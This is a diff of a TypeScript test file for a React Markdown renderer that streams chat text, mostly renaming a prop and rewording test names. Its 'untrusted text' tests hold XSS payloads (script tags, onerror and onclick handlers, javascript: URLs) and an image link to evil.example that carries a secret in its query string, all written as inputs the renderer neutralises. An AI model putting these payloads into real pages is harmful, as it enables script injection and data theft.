@@ -82,7 +82,7 @@ const WORDS = [
   ],
 ];
 
-/** Numbers below a bound, the same each time. */
+/** Pseudo-random numbers below a bound, the same in each run. */
 function seeded(seed: number): (below: number) => number {
   let state = seed;
   return (below) => {
@@ -91,22 +91,22 @@ function seeded(seed: number): (below: number) => number {
   };
 }
 
-function html(text: string, isGrowing = false): string {
-  const { container, unmount } = render(<Markdown text={text} isGrowing={isGrowing} />);
+function html(text: string, isStreaming = false): string {
+  const { container, unmount } = render(<Markdown text={text} isStreaming={isStreaming} />);
   const shown = container.innerHTML;
   unmount();
   return shown;
 }
 
-describe("a text that grows", () => {
-  test.each([1, 3, 7, 50])("by %i characters at a time ends as the same text parsed at once", (step) => {
-    const { container, rerender } = render(<Markdown text="" isGrowing />);
-    for (let end = 0; end < LONG.length; end += step) rerender(<Markdown text={LONG.slice(0, end)} isGrowing />);
-    rerender(<Markdown text={LONG} isGrowing={false} />);
+describe("a streaming text", () => {
+  test.each([1, 3, 7, 50])("in steps of %i characters ends as the same HTML as the finished text", (step) => {
+    const { container, rerender } = render(<Markdown text="" isStreaming />);
+    for (let end = 0; end < LONG.length; end += step) rerender(<Markdown text={LONG.slice(0, end)} isStreaming />);
+    rerender(<Markdown text={LONG} isStreaming={false} />);
     expect(container.innerHTML).toBe(html(LONG));
   });
 
-  test("is parsed from its last block on", () => {
+  test("keeps its settled blocks", () => {
     const before = parse(LONG.slice(0, 200), true);
     const after = parse(LONG.slice(0, 260), true, before);
     expect(before.settled.length).toBeGreaterThan(2);
@@ -114,22 +114,22 @@ describe("a text that grows", () => {
   });
 
   test.each([
-    ["a word that began like a heading", "One\n#", "two"],
+    ["a word that started like a heading", "One\n#", "two"],
     ["a paragraph that looked like a table", "One\na | b\n--", "- | --- | ---\n"],
-    ["a rule that began like an item", "- one\n-", "--\nmore"],
+    ["a thematic break that started like a list item", "- one\n-", "--\nmore"],
     ["a list that becomes loose", "- one\n- two\n- three\n", "\n- four\n"],
-    ["a footnote that is told later", "One[^1]\n\nTwo\n", "\n[^1]: three\n"],
+    ["a footnote that is defined later", "One[^1]\n\nTwo\n", "\n[^1]: three\n"],
   ])("may turn out to be %s", (_, begun, more) => {
-    const { container, rerender } = render(<Markdown text={begun} isGrowing />);
-    rerender(<Markdown text={begun + more} isGrowing />);
-    rerender(<Markdown text={begun + more} isGrowing={false} />);
+    const { container, rerender } = render(<Markdown text={begun} isStreaming />);
+    rerender(<Markdown text={begun + more} isStreaming />);
+    rerender(<Markdown text={begun + more} isStreaming={false} />);
     expect(container.innerHTML).toBe(html(begun + more));
   });
 
   test.each([
-    ["whatever", PIECES],
+    ["any syntax", PIECES],
     ["words, links and emphasis", WORDS],
-  ])("ends as the same text parsed at once, if it is made of %s", (_, made) => {
+  ])("of random %s ends as the same HTML as the finished text", (_, made) => {
     const random = seeded(7);
     for (let round = 0; round < 60; round++) {
       const pieces = Array.from({ length: 3 + random(12) }, () =>
@@ -137,103 +137,103 @@ describe("a text that grows", () => {
       );
       const text = pieces.join("");
       const step = 1 + random(9);
-      const { container, rerender, unmount } = render(<Markdown text="" isGrowing />);
-      for (let end = 0; end < text.length; end += step) rerender(<Markdown text={text.slice(0, end)} isGrowing />);
-      rerender(<Markdown text={text} isGrowing={false} />);
+      const { container, rerender, unmount } = render(<Markdown text="" isStreaming />);
+      for (let end = 0; end < text.length; end += step) rerender(<Markdown text={text.slice(0, end)} isStreaming />);
+      rerender(<Markdown text={text} isStreaming={false} />);
       expect(container.innerHTML, JSON.stringify(text)).toBe(html(text));
       unmount();
     }
   });
 
-  test("that is replaced is parsed anew", () => {
+  test("is parsed from the start if another text replaces it", () => {
     const before = parse(LONG, true);
     expect(before.settled.length).toBeGreaterThan(2);
     const { settled, open, settledText } = parse("Something else\n\nentirely\n", true, before);
     expect([settled.length, open.length, settledText]).toEqual([1, 1, "Something else\n\n"]);
   });
 
-  test("shows half-written emphasis, code and links as what they will be", () => {
+  test("shows unclosed emphasis, code and links as if they were closed", () => {
     expect(html("It is **very", true)).toContain("<strong>very</strong>");
     expect(html("Call `fetch(", true)).toContain("<code>fetch(</code>");
     expect(html("See [the docs](https://exam", true)).not.toContain("](");
   });
 
-  test("shows a half-written code block as code", () => {
+  test("shows an unclosed code block as code", () => {
     expect(html("Look:\n\n```ts\nconst x", true)).toContain("const x");
     expect(html("Look:\n\n```ts\nconst x", true)).toContain("<figure");
   });
 
-  test("links to what is defined at its end, once it is finished", () => {
+  test("resolves link definitions at its end when it is finished", () => {
     const text = "See [the docs] for more.\n\nAnd on.\n\n[the docs]: https://example.com";
     expect(html(text)).toContain('href="https://example.com"');
   });
 
-  test("keeps its footnotes", () => {
+  test("shows its footnotes", () => {
     const shown = html("A claim.[^1]\n\n[^1]: A source.");
     expect(shown).toContain("<sup>1</sup>");
     expect(shown).toContain("A source.");
   });
 });
 
-test("a link finds the first definition of its name, wherever that stands, and so does an image", () => {
+test("links and images use the first definition of their name, wherever it is", () => {
   const text = "[one][a], [two][b], ![three][a]\n\n[a]: /first\n[a]: /second\n\n- in a list\n\n  [b]: /nested\n";
-  const { container } = render(<Markdown text={text} isGrowing={false} />);
+  const { container } = render(<Markdown text={text} isStreaming={false} />);
   const links = [...container.querySelectorAll("a")].map((link) => `${link.textContent} ${link.getAttribute("href")}`);
   expect(links).toEqual(["one /first", "two /nested", "three /first"]);
 });
 
-describe("a stranger's text", () => {
+describe("untrusted text", () => {
   test.each([
     "<img src=x onerror=alert(1)>",
     "<script>alert(1)</script>",
     "text <b onclick=alert(1)>bold</b>",
     "<iframe src=https://evil.example></iframe>",
-  ])("is never taken for HTML: %s", (source) => {
-    const { container } = render(<Markdown text={source} isGrowing={false} />);
+  ])("is not interpreted as HTML: %s", (source) => {
+    const { container } = render(<Markdown text={source} isStreaming={false} />);
     expect(container.querySelector("img, script, b, iframe")).toBeNull();
     expect(container.textContent).toContain("<");
   });
 
   test.each(["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x"])(
-    "links nowhere but to the web: %s",
+    "does not link to unsafe URLs: %s",
     (href) => {
-      const { container } = render(<Markdown text={`[click](${href})`} isGrowing={false} />);
+      const { container } = render(<Markdown text={`[click](${href})`} isStreaming={false} />);
       expect(container.querySelector("a")?.hasAttribute("href")).toBe(false);
     },
   );
 
-  test("loads no image: its address can carry the chat's text away", () => {
-    const { container } = render(<Markdown text="![a map](https://evil.example/?q=secret)" isGrowing={false} />);
+  test("loads no image, because the URL could carry text of the chat to another host", () => {
+    const { container } = render(<Markdown text="![a map](https://evil.example/?q=secret)" isStreaming={false} />);
     expect(container.querySelector("img")).toBeNull();
     expect(container.querySelector("a")?.textContent).toBe("a map");
   });
 
-  test("leaves math alone", () => {
+  test("does not change math", () => {
     expect(html("It costs $5 and $6, and $x_1 + x_2$ is math.")).toContain("$5 and $6, and $x_1 + x_2$");
   });
 });
 
-describe("what a model writes that has lost its way, and a parser takes seconds for, is text", () => {
-  const endless = [
-    ["lists in lists", `${"- ".repeat(4000)}x`],
-    ["quotations in quotations", `${">".repeat(12_000)} x`],
-    ["stars without another end", "*a ".repeat(4000) + "b*".repeat(4000)],
-    ["brackets in brackets", "[".repeat(20_000) + "]".repeat(20_000)],
-    ["links without an end", "[a](".repeat(10_000)],
-    ["in many lines", `${"_a\n".repeat(4000)}b_`],
+describe("text that would take the parser seconds is shown as plain text", () => {
+  const pathological = [
+    ["nested lists", `${"- ".repeat(4000)}x`],
+    ["nested quotes", `${">".repeat(12_000)} x`],
+    ["stars that are not closed", "*a ".repeat(4000) + "b*".repeat(4000)],
+    ["nested brackets", "[".repeat(20_000) + "]".repeat(20_000)],
+    ["links that are not closed", "[a](".repeat(10_000)],
+    ["underscores in many lines", `${"_a\n".repeat(4000)}b_`],
   ] as const;
 
-  test.each(endless)("%s", (_, text) => {
-    for (const isGrowing of [true, false]) {
-      const { container } = render(<Markdown text={`**Well**\n\n${text}\n\nAnd *then*?`} isGrowing={isGrowing} />);
+  test.each(pathological)("%s", (_, text) => {
+    for (const isStreaming of [true, false]) {
+      const { container } = render(<Markdown text={`**Well**\n\n${text}\n\nAnd *then*?`} isStreaming={isStreaming} />);
       expect(container.textContent).toContain(text);
       expect([...container.querySelectorAll("strong, em")].map((mark) => mark.textContent)).toEqual(["Well", "then"]);
     }
   });
 
-  test("but not what many paragraphs, items and rows are made of", () => {
+  test("but many markers in different paragraphs, items and rows are parsed", () => {
     const text = "- a **b** *c*\n".repeat(300) + "\n| **a** |\n|---|\n".concat("| *b* |\n".repeat(300));
-    const { container } = render(<Markdown text={text} isGrowing={false} />);
+    const { container } = render(<Markdown text={text} isStreaming={false} />);
     expect(container.querySelectorAll("strong")).toHaveLength(301);
     expect(container.querySelectorAll("em")).toHaveLength(600);
   });
